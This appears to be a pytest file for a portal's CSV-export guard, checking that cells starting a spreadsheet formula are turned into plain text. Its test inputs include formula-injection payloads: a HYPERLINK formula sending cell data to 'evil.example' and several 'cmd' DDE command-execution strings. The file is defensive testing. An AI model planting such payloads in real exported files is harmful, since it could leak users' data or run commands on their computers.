"""CSV the portal writes is safe to open in Excel: text that would start a formula is made plain text."""
from __future__ import annotations

import csv
import io

import pytest

from westsuffolk_core import csv_safety, table_schemas


@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0",
                                   "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
                                   "＝1+1", "=1+1"])
def test_formulas_become_text(value):
    assert csv_safety.guard(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "+44", "-1e3", "1,234.50", "-.5", "Acme Ltd", "", "a=b", "2024-01-31",
                                   "O'Neill"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert csv_safety.guard(value) == value


def test_non_text_values_pass_through():
    assert csv_safety.guard_row([1, -2.5, None, "=1"]) == [1, -2.5, None, "'=1"]


def test_the_writer_guards_every_cell_and_round_trips():
    out = io.StringIO()
    guarded = csv_safety.writer(out, lineterminator="\n")
    guarded.writerow(["payee", "amount"])
    guarded.writerows([["=cmd()", "-5"], ["Acme, Ltd", "10"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["payee", "amount"], ["'=cmd()", "-5"],
                                                            ["Acme, Ltd", "10"]]


def test_the_blank_template_is_written_through_the_guard(monkeypatch):
    descriptor = {"name": "x", "fields": [{"name": "=evil()"}, {"name": "amount"}]}
    monkeypatch.setattr(table_schemas, "get_descriptor", lambda name, version=None: descriptor)
    assert table_schemas.csv_template("x") == "'=evil(),amount\n"
